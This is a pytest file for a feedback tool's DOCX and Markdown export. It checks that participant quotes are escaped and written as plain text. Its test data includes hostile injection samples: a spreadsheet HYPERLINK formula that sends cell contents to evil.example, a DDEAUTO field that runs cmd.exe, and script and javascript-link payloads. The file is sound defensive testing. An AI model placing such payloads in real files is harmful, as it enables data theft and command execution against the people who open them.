"""The shared writer's documents (DOCX, Markdown): participant text stays plain text, control characters go."""

from __future__ import annotations

import io
import zipfile

import pytest
from docx import Document

from feedback.exports import ExportDocument, Paragraph, document_text, markdown_text, to_docx, to_markdown

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")',
    '{ HYPERLINK "http://evil.example" } { DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" }',
    "<script>alert(1)</script> [lien](javascript:alert(1)) ![img](http://evil.example/x.png)",
    "**gras** _souligné_ `code` | tableau | ~~barré~~ &amp; # titre",
    "Bip\x07 nul\x00 saut\x0c fin\ufffe\uffff.",
]


def _document() -> ExportDocument:
    paragraphs = []
    for text in HOSTILE:
        paragraphs += [
            Paragraph(f"« {text} »", "quote"),
            Paragraph("— Participant·e, formation « QPV », 2025", "attribution"),
        ]
    return ExportDocument("Citations approuvées 2025", [Paragraph("Échanges", "heading"), *paragraphs])


def test_docx_holds_the_text_as_plain_runs_never_fields_or_links():
    content = to_docx(_document())
    document = Document(io.BytesIO(content))
    texts = [paragraph.text for paragraph in document.paragraphs]
    assert texts[0] == "Citations approuvées 2025"
    assert texts[1] == "Échanges"
    assert f"« {HOSTILE[0]} »" in texts
    assert f"« {HOSTILE[1]} »" in texts
    assert "« Bip nul saut fin. »" in texts  # control characters stripped, the rest kept
    assert [p.style.name for p in document.paragraphs][2] == "Quote"
    xml = zipfile.ZipFile(io.BytesIO(content)).read("word/document.xml").decode()
    for element in ("w:fldSimple", "w:instrText", "w:fldChar", "w:hyperlink"):
        assert element not in xml
    assert "<script>" not in xml and "&lt;script&gt;" in xml


def test_markdown_escapes_everything_markdown_would_act_on():
    markdown = to_markdown(_document()).decode()
    assert markdown.startswith("# Citations approuvées 2025\n")
    assert "\\<script\\>" in markdown and "<script>" not in markdown
    assert "\\[lien\\](javascript:alert(1))" in markdown
    assert "\\!\\[img\\]" in markdown
    assert "\\*\\*gras\\*\\* \\_souligné\\_ \\`code\\` \\| tableau \\| \\~\\~barré\\~\\~ \\&amp; \\# titre" in markdown
    assert "\x07" not in markdown and "\x00" not in markdown
    assert "> — Participant·e, formation « QPV », 2025" in markdown


@pytest.mark.parametrize("value", ["a\x00b", "a\x1fb", "a\ufffeb", "a\uffffb", "a\ud800b"])
def test_characters_xml_refuses_are_removed(value):
    assert document_text(value) == "ab"


def test_line_breaks_and_tabs_are_kept_in_documents_and_flattened_in_markdown():
    assert document_text("un\r\ndeux\ttrois") == "un\ndeux\ttrois"
    assert markdown_text("un\n\n# deux") == "un \\# deux"
